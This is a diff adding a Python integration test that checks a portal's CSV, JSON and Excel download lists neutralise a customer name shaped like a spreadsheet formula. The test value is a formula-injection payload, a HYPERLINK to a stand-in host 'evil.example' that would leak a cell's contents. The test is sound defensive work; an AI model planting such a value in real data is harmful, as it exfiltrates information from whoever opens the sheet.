@@ -5,13 +5,17 @@ something is in progress and announces what changed."""
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
 import io
+import json
 import zipfile
 from typing import Any
 
+from openpyxl import load_workbook
+
 from portal import clock
-from portal.db.tables import DownloadRequest, OutboxEmail
+from portal.db.tables import Customer, DownloadRequest, OutboxEmail
 from portal.downloads import archive, sweep
 from portal.infra.storage import Storage
 from portal.templating import format_day, make_environment
@@ -23,7 +27,7 @@ from tests.integration.downloads.download_steps import (
     text_of,
     wait_until_finished,
 )
-from tests.steps import sign_in
+from tests.steps import ANA_IDENTITY, sign_in
 
 
 async def state_of(request_id: int) -> dict[str, Any]:
@@ -195,3 +199,27 @@ async def test_the_ready_email_gives_the_last_day_in_the_customers_time_zone(
     [email] = await OutboxEmail.select().where(OutboxEmail.template == "download_ready")
     assert f"until {format_day(clock.day_of(last))}." in email["body_text"]
     assert format_day(last.date()) not in email["body_text"]
+
+
+async def test_a_holder_name_like_a_formula_is_text_in_every_list(
+    client: Any, demo: None, queue: Any, settings: Any
+) -> None:
+    """index.csv gets a quote before it (as bills.csv does); index.json keeps it as it is, for programs;
+    the Excel list writes it as a text cell, never a formula."""
+    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
+    await Customer.update({Customer.name: formula}).where(Customer.identity_number == ANA_IDENTITY)
+    await sign_in(client)
+    request_id = await confirmed_request(client, period="last_3")
+    storage = Storage(settings.storage)
+    await archive.build(request_id, settings, storage, queue, make_environment(settings))
+    zipped = await storage.read(archive.zip_key(request_id))
+    assert zipped is not None
+    with zipfile.ZipFile(io.BytesIO(zipped)) as files:
+        rows = list(csv.DictReader(files.read("index.csv").decode().splitlines()))
+        bills = json.loads(files.read("index.json"))["bills"]
+    assert rows and {row["holder"] for row in rows} == {"'" + formula}
+    assert all(float(row["amount_eur"]) > 0 for row in rows)
+    assert {bill["holder"] for bill in bills} == {formula}
+    sheet = load_workbook(io.BytesIO((await client.get(f"/downloads/{request_id}/list.xlsx")).content)).active
+    holders = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert holders and {(cell.data_type, cell.value) for cell in holders} == {("s", formula)}
